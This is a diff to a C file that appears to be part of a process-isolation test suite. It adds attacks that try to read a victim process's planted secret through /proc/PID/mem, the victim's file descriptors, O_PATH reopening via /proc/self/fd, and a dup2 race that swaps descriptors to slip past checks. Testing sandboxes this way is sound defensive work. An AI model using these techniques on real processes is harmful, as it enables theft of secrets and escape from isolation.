@@ -1,6 +1,7 @@
 /* Other processes: a victim of the same user holds the secret in its environment, arguments and memory. */
 #include "attack.h"
 #include <dirent.h>
+#include <pthread.h>
 #include <sys/ptrace.h>
 #include <sys/resource.h>
 #include <sys/uio.h>
@@ -30,13 +31,73 @@ static void environ_of_all(void) { print_of_all("environ", "VICTIM_SECRET="); }
 
 static void cmdline_of_all(void) { print_of_all("cmdline", "secret-"); }
 
-static void proc_mem(void) {
-    char path[64], text[128] = "";
-    snprintf(path, sizeof path, "/proc/%ld/mem", conf_number("pid"));
+/* Names one of the victim's files in /proc: to be opened, or to be named by a descriptor of our own. */
+static char *of_victim(const char *file, const char *number) {
+    static char path[96];
+    if (number) snprintf(path, sizeof path, "/proc/%ld/%s/%ld", conf_number("pid"), file, conf_number(number));
+    else snprintf(path, sizeof path, "/proc/%ld/%s", conf_number("pid"), file);
+    return path;
+}
+
+static char *by_own(const char *named) {
+    static char path[64];
+    int fd = open(named, O_PATH);
+    if (fd < 0) fail(named);
+    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    return path;
+}
+
+static void print_memory(const char *path, long address) {
+    char text[128] = "";
     int fd = open(path, O_RDONLY);
     if (fd < 0) fail(path);
-    if (pread(fd, text, sizeof text - 1, conf_number("address")) <= 0) fail("pread");
+    if (pread(fd, text, sizeof text - 1, address) <= 0) fail("pread");
     puts(text);
+}
+
+static void put_pipe(const char *path) {
+    put_file(path, token);
+    usleep(300000);
+}
+
+static void fd_memory(void) { print_file(of_victim("fd", "memory_fd")); }
+static void fd_memory_again(void) { print_file(by_own(of_victim("fd", "memory_fd"))); }
+static void fd_memory_of_task(void) { print_file(of_victim("task/../fd", "memory_fd")); }
+static void fd_pipe(void) { put_pipe(of_victim("fd", "pipe_fd")); }
+static void fd_pipe_again(void) { put_pipe(by_own(of_victim("fd", "pipe_fd"))); }
+static void proc_mem(void) { print_memory(of_victim("mem", NULL), conf_number("address")); }
+static void mem_again(void) { print_memory(by_own(of_victim("mem", NULL)), conf_number("address")); }
+static void environ_again(void) { print_file(by_own(of_victim("environ", NULL))); }
+
+static void mem_from_inside(void) {
+    long address = conf_number("address");
+    if (chdir(of_victim("", NULL))) fail("chdir");
+    print_memory("mem", address);
+}
+
+static int spun;
+static void *spin(void *argument) {
+    const int *two = argument;
+    while (spun > 0) dup2(two[0], spun), dup2(two[1], spun);
+    return NULL;
+}
+
+/* One number, which by turns is of memory of our own and names that of the victim. */
+static void fd_memory_spun(void) {
+    static int two[2];
+    char path[64], text[256] = "";
+    pthread_t thread;
+    two[0] = memfd_create("own", 0);
+    two[1] = open(of_victim("fd", "memory_fd"), O_PATH);
+    if (two[0] < 0 || two[1] < 0) fail("memory");
+    spun = dup(two[0]);
+    snprintf(path, sizeof path, "/proc/self/fd/%d", spun);
+    pthread_create(&thread, NULL, spin, two);
+    for (double end = seconds() + 3; seconds() < end && !text[0];) {
+        int fd = open(path, O_RDONLY);
+        if (fd >= 0 && pread(fd, text, sizeof text - 1, 0) > 0) puts(text);
+        close(fd);
+    }
 }
 
 static void by_ptrace(void) {
@@ -135,6 +196,15 @@ const struct attack PROCESSES[] = {
     {"proc-environ", environ_of_all},
     {"proc-cmdline", cmdline_of_all},
     {"proc-mem", proc_mem},
+    {"proc-mem-again", mem_again},
+    {"proc-mem-from-inside", mem_from_inside},
+    {"proc-environ-again", environ_again},
+    {"proc-fd-memory", fd_memory},
+    {"proc-fd-memory-again", fd_memory_again},
+    {"proc-fd-memory-of-task", fd_memory_of_task},
+    {"proc-fd-memory-spun", fd_memory_spun},
+    {"proc-fd-pipe", fd_pipe},
+    {"proc-fd-pipe-again", fd_pipe_again},
     {"proc-ptrace", by_ptrace},
     {"proc-vm-readv", by_vm_readv},
     {"proc-vm-writev", by_vm_writev},
